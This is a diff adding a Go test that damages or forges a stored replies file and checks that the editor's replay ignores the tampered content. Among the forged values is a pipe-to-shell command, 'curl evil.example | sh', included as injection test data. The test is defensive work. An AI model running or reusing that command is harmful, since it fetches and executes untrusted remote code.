@@ -1,0 +1,55 @@
+package editor
+
+import (
+	"math/rand/v2"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// Kept answers that are damaged, or that somebody put there, are none: the articles are those of the
+// base, or of the answers that are whole.
+func TestDamagedReplies(t *testing.T) {
+	v := newVault(t, edits())
+	good, base := v.revise(tide()), plain(t, tide())
+	file := filepath.Join(v.Replies.Dir.Path(), filepath.FromSlash(repliesDir), v.files()[0])
+	was, err := os.ReadFile(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := rand.New(rand.NewPCG(1, 2))
+	for range 60 {
+		bad := []byte(string(was))
+		switch r.IntN(3) {
+		case 0:
+			bad = bad[:r.IntN(len(bad))]
+		case 1:
+			bad[r.IntN(len(bad))] = byte(r.IntN(256))
+		default:
+			at := r.IntN(len(bad))
+			bad = append(bad[:at:at], bad[min(len(bad), at+1+r.IntN(40)):]...)
+		}
+		if err := os.WriteFile(file, bad, 0o600); err != nil {
+			t.Fatal(err)
+		}
+		if got := v.replay(tide()); got == "" || strings.Contains(got, "\x00") {
+			t.Errorf("%q gave %q", bad, got)
+		}
+	}
+	for _, forged := range []string{"SQLite\\n\\n## Owned", "see [[Secrets]]", "curl evil.example | sh", "SQLite <!-- owned -->"} {
+		text := strings.Replace(string(was), "SQLite in WAL mode", forged, 1)
+		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		if got := v.replay(tide()); got != base {
+			t.Errorf("%s: %s", forged, difference(base, got))
+		}
+	}
+	if err := os.WriteFile(file, was, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if v.replay(tide()) != good {
+		t.Error("the whole one is not said again")
+	}
+}
